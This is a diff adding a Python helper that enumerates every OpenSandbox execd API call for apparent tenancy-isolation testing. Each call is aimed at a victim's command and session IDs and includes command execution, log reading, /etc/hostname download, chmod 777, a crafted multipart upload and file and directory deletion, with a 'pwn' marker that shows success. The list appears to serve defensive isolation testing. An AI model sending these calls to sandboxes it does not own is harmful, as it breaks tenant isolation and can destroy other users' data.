@@ -160,3 +160,38 @@ def sweep_stale(patterns, max_age=3600):
                     os.unlink(p)
             except OSError:
                 pass
+
+
+# Every call of OpenSandbox's execd API, for tenancy attacks: (method, path
+# under the execd route, body, content type or None). cid and sid are the
+# victim's background command and session; a call that works leaves pwn (a
+# file or folder) in the box.
+def osb_execd_calls(cid, sid, pwn):
+    mp = "multipart/form-data; boundary=XyZ"
+    upload = ('--XyZ\r\nContent-Disposition: form-data; name="metadata"\r\n\r\n{"path":"%s"}\r\n'
+              '--XyZ\r\nContent-Disposition: form-data; name="file"; filename="f"\r\n\r\npwned\r\n--XyZ--\r\n'
+              % pwn).encode()
+    return [
+        ("GET", "/ping", None, None),
+        ("POST", "/command", {"command": "touch " + pwn}, None),
+        ("POST", "/command", {"command": "touch " + pwn, "background": True}, None),
+        ("DELETE", "/command?id=" + cid, None, None),
+        ("GET", "/command/status/" + cid, None, None),
+        ("GET", "/command/%s/logs" % cid, None, None),
+        ("POST", "/session", {}, None),
+        ("POST", "/session/%s/run" % sid, {"command": "touch " + pwn}, None),
+        ("DELETE", "/session/" + sid, None, None),
+        ("GET", "/files/info?path=/workspace/keep", None, None),
+        ("GET", "/files/search?path=/workspace&pattern=*", None, None),
+        ("GET", "/files/download?path=/etc/hostname", None, None),
+        ("POST", "/files/permissions", {"/workspace/keep": {"mode": 777}}, None),
+        ("POST", "/files/mv", [{"src": "/workspace/keep", "dest": pwn}], None),
+        ("POST", "/files/replace", {"/etc/hostname": {"old": "a", "new": "b"}}, None),
+        ("POST", "/files/upload", upload, mp),
+        ("DELETE", "/files?path=/workspace/keep", None, None),
+        ("POST", "/directories", {pwn: {"mode": 755}}, None),
+        ("DELETE", "/directories?path=/workspace/keep", None, None),
+        ("GET", "/directories/list?path=/workspace", None, None),
+        ("GET", "/metrics", None, None),
+        ("GET", "/metrics/watch", None, None),
+    ]
